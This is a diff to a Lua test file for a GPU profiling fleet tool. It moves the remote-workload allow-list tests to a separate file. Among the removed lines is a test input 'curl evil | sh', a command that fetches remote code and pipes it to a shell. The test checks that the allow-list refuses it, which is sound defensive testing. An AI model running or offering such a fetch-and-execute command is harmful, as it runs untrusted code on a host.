@@ -1,7 +1,7 @@
 -- Fleet building blocks without a network: the shlex splitter against Python's shlex (the
 -- reference splits nsys_workload with it), the Studio profile header, tags from policy, backoff
--- bounds, the spool (atomic items, oldest first, cap policies, no token), the workload allow-list
--- and the perf folding of a `perf script` text.
+-- bounds, the spool (atomic items, oldest first, cap policies, no token) and the perf folding of a
+-- `perf script` text. The allow-lists: test_fleet_allow.lua.
 local top = os.getenv("GF_TOP") or "."
 local t = dofile(top .. "/tests/lib/t.lua")
 local core = require("gpuflame.core")
@@ -10,7 +10,6 @@ local studio = require("gpuflame.fleet.studio")
 local deliver = require("gpuflame.fleet.deliver")
 local spool = require("gpuflame.fleet.spool")
 local policy = require("gpuflame.policy")
-local agent = require("gpuflame.fleet.agent")
 local tmp = t.tmp()
 
 -- shlex: compare with Python's shlex.split on the same strings (python3 is the reference here)
@@ -144,33 +143,6 @@ spool.enforce(sd, { max_bytes = total - 1 })
 t.eq("byte cap drops until under the cap", 1, #spool.list(sd))
 core.fs.write_atomic(sd .. "/000000000000001-000001-1-0001.item", '{"body_bytes": 99}\nshort')
 t.raises("a truncated item is detected", function() spool.read(sd .. "/000000000000001-000001-1-0001.item") end, "truncated")
-
--- allow-list for remote workloads
-core.fs.write_atomic(tmp .. "/allowed", "# comment\n/opt/app/cuda_burn 30\npython3 /opt/bench/*.py *\n/opt/x/a%d.sh [1]\n")
-core.fs.write_atomic(tmp .. "/allow.lua", string.format(
-  'return { extends = "default", agent = { remote_workloads = { allow_file = %q } } }', tmp .. "/allowed"))
-p = policy.effective({ tmp .. "/allow.lua" })
-t.eq("exact command allowed", true, (agent.workload_allowed(p, { "/opt/app/cuda_burn", "30" })))
-t.eq("same program, other args refused", false, (agent.workload_allowed(p, { "/opt/app/cuda_burn", "31" })))
-t.eq("glob allowed", true, (agent.workload_allowed(p, { "python3", "/opt/bench/mm.py", "--n", "4" })))
-local okw, why = agent.workload_allowed(p, { "sh", "-c", "curl evil | sh" })
-t.eq("anything else refused", false, okw)
-t.check("refusal names the allow-list file", why and why:find(tmp .. "/allowed", 1, true), why)
-t.eq("Lua pattern characters in an allow-list line are literal (allowed as written)", true,
-  (agent.workload_allowed(p, { "/opt/x/a%d.sh", "[1]" })))
-t.eq("Lua pattern characters in an allow-list line are literal (no pattern match)", false,
-  (agent.workload_allowed(p, { "/opt/x/a5.sh", "1" })))
-core.fs.write_atomic(tmp .. "/noremote.lua",
-  'return { extends = "default", agent = { remote_workloads = { enabled = false, allow = { "*" } } } }')
-p = policy.effective({ tmp .. "/noremote.lua" })
-okw, why = agent.workload_allowed(p, { "/opt/app/cuda_burn", "30" })
-t.check("remote workloads disabled refuses everything", not okw and why:find("disabled", 1, true), why)
-core.fs.write_atomic(tmp .. "/decide.lua", [[return { extends = "default", agent = { remote_workloads = {
-  decide = function(argv) if argv[1] == "/usr/bin/true" then return true end return false, "only true is allowed" end } } }]])
-p = policy.effective({ tmp .. "/decide.lua" })
-t.eq("decide function allows", true, (agent.workload_allowed(p, { "/usr/bin/true" })))
-okw, why = agent.workload_allowed(p, { "/usr/bin/false" })
-t.check("decide function refuses with its reason", not okw and why == "only true is allowed", why)
 
 -- perf folding (tests/fake/perf prints a hand-written `perf script` text)
 local perf = dofile(top .. "/lua/backends/perf.lua")
